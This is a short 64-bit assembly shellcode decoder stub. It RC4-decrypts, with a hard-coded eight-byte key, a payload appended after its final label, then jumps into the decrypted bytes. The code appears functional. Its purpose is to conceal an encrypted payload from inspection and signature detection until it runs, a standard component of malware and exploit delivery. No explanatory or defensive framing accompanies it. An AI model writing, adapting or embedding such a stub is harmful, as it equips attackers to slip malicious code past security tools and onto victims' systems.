; Decoder, 64 bit: RC4 with an eight-byte key; the state lies on the stack.
bits 64
        jmp short start
length: dw 0
start:  lea rbp, [rel payload]
        sub rsp, 256
        mov rdi, rsp
        xor eax, eax
fill:   mov [rdi + rax], al
        inc al
        jnz fill
        xor ebx, ebx            ; key schedule: al i, bl j
mix:    mov edx, eax
        and edx, byte 7
        add bl, [rbp + rdx + key - payload]
        add bl, [rdi + rax]
        mov dl, [rdi + rax]
        xchg dl, [rdi + rbx]
        mov [rdi + rax], dl
        inc al
        jnz mix
        xor ebx, ebx
        movzx ecx, word [rbp + length - payload]
        mov rsi, rbp
next:   inc al
        add bl, [rdi + rax]
        mov dl, [rdi + rax]
        xchg dl, [rdi + rbx]
        mov [rdi + rax], dl
        add dl, [rdi + rbx]
        movzx edx, dl
        mov dl, [rdi + rdx]
        xor [rsi], dl
        inc rsi
        loop next
        add rsp, 256
        jmp short payload
key:    db 'kenbi-k1'
payload:
